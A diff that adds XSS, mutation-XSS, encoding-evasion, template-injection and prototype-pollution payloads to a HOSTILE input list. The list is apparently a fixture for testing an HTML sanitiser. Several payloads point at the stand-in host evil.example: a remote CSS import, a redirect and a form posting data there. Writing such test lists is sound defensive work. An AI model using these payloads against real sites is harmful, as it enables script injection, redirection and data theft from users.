@@ -171,6 +171,22 @@ HOSTILE = [
     "&lt;b&gt;",
     "javascript:alert(1)",
     "]]><svg/onload=alert(1)>",
+    "</style><style>@import 'http://evil.example/x.css';*{display:none}</style>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
+    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=data:text/html,x></object>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\x1b$B<script>alert(1)</script>\x1b(B",
+    "\ufeff\ufffe\x7f\x85\u200b<\u0000script>",
+    "${alert(1)} #{alert(1)} <%= 7*7 %> {{constructor.constructor('alert(1)')()}} {#x#}",
+    "__proto__",
+    "constructor",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\",
+    "</ScRiPt ><ScRiPt>alert(1)//",
+    "<a href='java\tscript:alert(1)' style='position:fixed;inset:0'>x</a>",
+    "]]>--!></textarea></title></xmp></template><form action=http://evil.example><input autofocus onfocus=alert(1)>",
 ]
 
 
